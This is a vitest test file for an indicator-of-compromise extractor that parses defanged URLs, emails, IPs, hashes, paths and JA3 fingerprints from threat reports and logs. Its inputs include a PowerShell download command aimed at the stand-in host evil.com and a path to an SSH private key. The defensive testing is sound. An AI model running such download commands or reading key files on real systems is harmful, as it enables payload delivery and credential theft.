import { describe, expect, it } from 'vitest';
import extractIocs from '../../../functions/extract/iocs.ts';
import { runIn } from '../../support/run.ts';

const find = async (value: string, options: object = {}): Promise<Record<string, string[]>> => {
  const found: Record<string, string[]> = {};
  for (const { IoCType, Observable } of (await runIn(extractIocs, { value, includePaths: false, ...options })).rows) (found[IoCType as string] ??= []).push(Observable as string);
  return found;
};
const evil = ['evil.com'];

describe('extract-iocs in reports, mails and logs', () => {
  it.each([
    ['a bracketed scheme', 'hxxp[://]evil[.]com/a', { dns: evil, url: ['http://evil.com/a'] }],
    ['half a bracket', 'hxxps://evil[.com/path', { dns: evil, url: ['https://evil.com/path'] }],
    ['backslashes behind the scheme', 'GET hxxp:\\\\evil[.]com today', { dns: evil, url: ['http://evil.com'] }],
    ['words with blanks around', 'write to bob [at] evil [dot] com, see evil (dot) com', { dns: evil, email: ['bob@evil.com'] }],
    ['signs with blanks around', 'see evil [.] com', { dns: evil }],
    ['escaped dots', 'regex: (evil\\.com|198\\.51\\.100\\.23)', { dns: evil, ipv4: ['198.51.100.23'] }],
    ['a bracketed port', 'hXXp[:]//198[.]51[.]100[.]23[:]8080/gate.php', { ipv4: ['198.51.100.23'], url: ['http://198.51.100.23:8080/gate.php'] }],
    ['an IPv6 address in pieces', '2001:db8[:]85a3[::]8a2e[:]370:7334', { ipv6: ['2001:db8:85a3::8a2e:370:7334'] }],
    ['zones and ports', 'fe80::1%eth0 [2001:db8::1]:443', { ipv6: ['fe80::1', '2001:db8::1'] }],
    ['slashes that JSON escapes', '{"u":"https:\\/\\/evil.com\\/a?x=1\\u0026y=2"}', { dns: evil, url: ['https://evil.com/a?x=1&y=2'] }],
    ['quotes that JSON escapes', '{"c":"iwr \\"https://evil.com/f\\" -o x"}', { dns: evil, url: ['https://evil.com/f'] }],
    ['code of Markdown', 'run `https://evil.com/a` or [this](https://evil.com/b)', { dns: evil, url: ['https://evil.com/a', 'https://evil.com/b'] }],
    ['stress of Markdown', '**https://evil.com/a** and _https://evil.com/b_', { dns: evil, url: ['https://evil.com/a', 'https://evil.com/b'] }],
    ['quotes of typography', '“https://evil.com/a” «https://evil.com/b» ‘https://evil.com/c’…', { dns: evil, url: ['https://evil.com/a', 'https://evil.com/b', 'https://evil.com/c'] }],
    ['lists', 'https://evil.com/a|https://evil.com/b;http://evil.com/c,ftp://evil.com/d', { dns: evil, url: ['https://evil.com/a', 'https://evil.com/b', 'http://evil.com/c', 'ftp://evil.com/d'] }],
    ['the web archive', 'https://archive.org/web/1/http://evil.com/', { dns: ['archive.org', 'evil.com'], url: ['https://archive.org/web/1/http://evil.com/', 'http://evil.com/'] }],
    ['names with addresses', '"Bob, B." <bob.b+x@evil.com>;amy@evil.com.', { dns: evil, email: ['bob.b+x@evil.com', 'amy@evil.com'] }],
    ['Received', 'from evil.com (mx.evil.com [203.0.113.5]) by mail.example.org', { dns: ['evil.com', 'mx.evil.com', 'mail.example.org'], ipv4: ['203.0.113.5'] }],
    ['onion services', 'http://duskgytldkxiuqc6.onion/x', { dns: ['duskgytldkxiuqc6.onion'], url: ['http://duskgytldkxiuqc6.onion/x'] }],
    ['hashes inside longer digits', `${'a'.repeat(31)} ${'0'.repeat(65)} ${'b'.repeat(32)}.exe`, { md5_hash: ['b'.repeat(32)] }],
    ['GUIDs and times', 'd41d8cd9-8f00-b204-e980-0998ecf8427e 12:30:45 std::string', {}],
    ['a nested link', 'https://r.evil.com/?url=https%3A%2F%2Fevil.com%2Fx%3Fa%3Db', { dns: ['r.evil.com', 'evil.com'], url: ['https://r.evil.com/?url=https%3A%2F%2Fevil.com%2Fx%3Fa%3Db', 'https://evil.com/x?a=b'] }],
  ])('reads %s', async (_, text, wanted) => expect(await find(text)).toEqual(wanted));

  it.each([
    ['C:\\Users\\bob\\.ssh\\id', ['C:\\Users\\bob\\.ssh\\id']],
    ['\\\\srv\\share name\\x.dll', ['\\\\srv\\share name\\x.dll']],
    ['C:\\u0026\\new\\readme.txt', ['C:\\u0026\\new\\readme.txt']],
    ['dir\\.git\\config', ['\\.git\\config']],
  ])('leaves the backslashes of %s alone', async (text, paths) => {
    expect(await find(text, { types: ['windows_path'] })).toEqual({ windows_path: paths });
  });

  it('leaves names of files that end in digits out on request', async () => {
    const text = 'a.ps1 b.tar.bz2 c.mp3 d.mp4 http://evil.com/x.ps1';
    expect(await find(text, { skipFileNames: true })).toEqual({ dns: evil, url: ['http://evil.com/x.ps1'] });
    expect((await find(text))['dns']).toEqual(['a.ps', 'b.tar.bz', 'c.mp', 'd.mp', 'evil.com', 'x.ps']);
  });

  it('takes quotes off addresses on request', async () => {
    const text = "-To 'bob@evil.com' `amy@evil.com`";
    expect((await find(text, { types: ['email'], skipFieldNames: true }))['email']).toEqual(['bob@evil.com', 'amy@evil.com']);
    expect((await find(text, { types: ['email'] }))['email']).toEqual(["'bob@evil.com", '`amy@evil.com']);
  });

  it('takes the names of fields off addresses on request', async () => {
    const text = 'suser=bob@evil.com smtp.mailfrom=amy.b@evil.com header.i=@evil.com bounce=amy=example.com@list.evil.com x+y=z@evil.com';
    expect((await find(text, { types: ['email'], skipFieldNames: true }))['email']).toEqual(['bob@evil.com', 'amy.b@evil.com', 'bounce=amy=example.com@list.evil.com', 'x+y=z@evil.com']);
    expect((await find('suser=bob@evil.com', { types: ['email'] }))['email']).toEqual(['suser=bob@evil.com']);
  });

  it.each(['ja3=', '"ja3_digest": "', '"ja3":{"hash":"', 'JA3 hash: ', 'tls.ja3s: ', 'ja3 fingerprint = '])('knows a JA3 behind %j', async (before) => {
    expect(await find(`${before}${'e'.repeat(32)}"`, { types: ['ja3', 'md5_hash'] })).toEqual({ ja3: ['e'.repeat(32)] });
  });
});
